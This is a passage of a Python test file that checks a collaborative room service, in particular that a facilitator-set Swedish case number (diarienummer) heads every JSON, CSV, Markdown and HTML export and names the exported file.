        seq = document["room"]["seq"]
        texts = {n["text"] for n in document["notes"]}
        # Exactly the notes acknowledged at or before the snapshot's seq, nothing half-done.
        assert texts == {t for t, s in acked.items() if s <= seq}


async def test_the_case_number_heads_every_export_and_names_the_file(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """A Swedish public body files the report under its diarienummer: the facilitator sets
    it once, and every export carries it in its header and its file name."""
    room = await new_room(title="Äldreomsorgen Åmål")
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    ack = await facilitator.command("update_room", case_number="  KS 2026/123 ")
    updated = [m for m in facilitator.messages if m["type"] == "room_updated"][-1]
    assert updated["seq"] == ack["seq"] and updated["case_number"] == "KS 2026/123"
    assert updated["title"] == "Äldreomsorgen Åmål", "the other settings stay as they were"
    again = clients(room["room_id"], room["facilitator_token"])
    welcome = await again.connect()
    assert welcome["snapshot"]["settings"]["case_number"] == "KS 2026/123"

    responses = {fmt: await export(http, room, fmt) for fmt in ("json", "csv", "md", "html")}
    for fmt, response in responses.items():
        disposition = response.headers["content-disposition"]
        assert 'filename="ks-2026-123-aldreomsorgen-amal-' in disposition and disposition.endswith(f'.{fmt}"')
    assert responses["json"].json()["room"]["case_number"] == "KS 2026/123"
    rows = list(csv.reader(io.StringIO(responses["csv"].content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Diarienummer", "KS 2026/123"]
    markdown = responses["md"].text.splitlines()
    assert markdown[0] == "# Äldreomsorgen Åmål" and markdown[2].startswith("Diarienummer KS 2026/123 · ")
    assert '<p class="meta">Diarienummer KS 2026/123 · ' in responses["html"].text

    await facilitator.command("update_room", case_number="")
    cleared = await export(http, room, "md")
    assert "Diarienummer" not in cleared.text
    assert 'filename="aldreomsorgen-amal-' in cleared.headers["content-disposition"]
